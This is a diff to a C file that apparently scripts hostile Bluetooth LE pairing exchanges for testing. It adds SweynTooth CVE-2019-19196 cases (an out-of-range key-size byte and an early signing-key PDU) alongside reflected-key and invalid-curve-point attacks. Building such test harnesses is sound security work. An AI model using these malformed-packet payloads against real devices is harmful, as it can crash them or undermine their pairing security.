@@ -456,18 +456,32 @@ void script_make(struct script *script, const struct trace *trace,
 /* Not on the curve. */
 static const u8 no_point[64];
 
-/* What an attacking peer puts in place of its own value; NULL: the host's. */
+/* SweynTooth's, CVE-2019-19196 */
+static const u8 long_size = 0xfd;
+static const u8 early_csrk[17] = {
+	SMPG_SIGNING_INFORMATION, 0x5d, 0x0b, 0xc8, 0x91, 0x3e, 0xf4, 0x27, 0x6a,
+};
+
+/*
+ * What an attacking peer puts in place of octets of its own PDU; NULL: the host's
+ * value. With @before the peer transmits another PDU before its own.
+ */
 static const struct {
 	const char *name;
 	u8 code;
 	const u8 *value;
+	u8 at, len;
+	bool before;
 } attacks[] = {
-	{ "reflected-key", SMPG_PAIRING_PUBLIC_KEY, NULL },
-	{ "reflected-x", SMPG_PAIRING_PUBLIC_KEY, minus_hosts_point },
-	{ "reflected-confirm", SMPG_PAIRING_CONFIRM, NULL },
-	{ "reflected-random", SMPG_PAIRING_RANDOM, NULL },
-	{ "reflected-check", SMPG_PAIRING_DHKEY_CHECK, NULL },
-	{ "invalid-key", SMPG_PAIRING_PUBLIC_KEY, no_point },
+	{ "reflected-key", SMPG_PAIRING_PUBLIC_KEY, NULL, 1, 64 },
+	{ "reflected-x", SMPG_PAIRING_PUBLIC_KEY, minus_hosts_point, 1, 64 },
+	{ "reflected-confirm", SMPG_PAIRING_CONFIRM, NULL, 1, 16 },
+	{ "reflected-random", SMPG_PAIRING_RANDOM, NULL, 1, 16 },
+	{ "reflected-check", SMPG_PAIRING_DHKEY_CHECK, NULL, 1, 16 },
+	{ "invalid-key", SMPG_PAIRING_PUBLIC_KEY, no_point, 1, 64 },
+	{ "long-size-request", SMPG_PAIRING_REQUEST, &long_size, 4, 1 },
+	{ "long-size-response", SMPG_PAIRING_RESPONSE, &long_size, 4, 1 },
+	{ "early-key", SMPG_PAIRING_CONFIRM, early_csrk, 0, 17, true },
 };
 
 /* The PDU of a step from its code on; NULL for a step that is none. */
@@ -476,6 +490,17 @@ static u8 *pdu_of(struct step *step)
 	struct packet *p = &step->packet;
 
 	return packet_type(p) == HCI_ACL && p->len > 9 ? p->data + 9 : NULL;
+}
+
+/* Have the peer transmit a PDU before step @i. */
+static void insert_pdu(struct script *s, size_t i, const u8 *pdu, size_t len)
+{
+	struct step last;
+
+	add_pdu(s, false, false, pdu, len);
+	last = s->steps[s->nr - 1];
+	memmove(&s->steps[i + 1], &s->steps[i], (s->nr - 1 - i) * sizeof(last));
+	s->steps[i] = last;
 }
 
 /*
@@ -504,8 +529,11 @@ bool script_attack(struct script *s, const char *name)
 		}
 		if (!attacks[n].value && !hosts)
 			die("%s: the peer is the first", name);
-		memcpy(pdu + 1, attacks[n].value ?: hosts,
-		       pdu[0] == SMPG_PAIRING_PUBLIC_KEY ? 64 : 16);
+		if (attacks[n].before)
+			insert_pdu(s, i, attacks[n].value, attacks[n].len);
+		else
+			memcpy(pdu + attacks[n].at, attacks[n].value ?: hosts,
+			       attacks[n].len);
 		return true;
 	}
 	die("%s: not in this pairing", name);
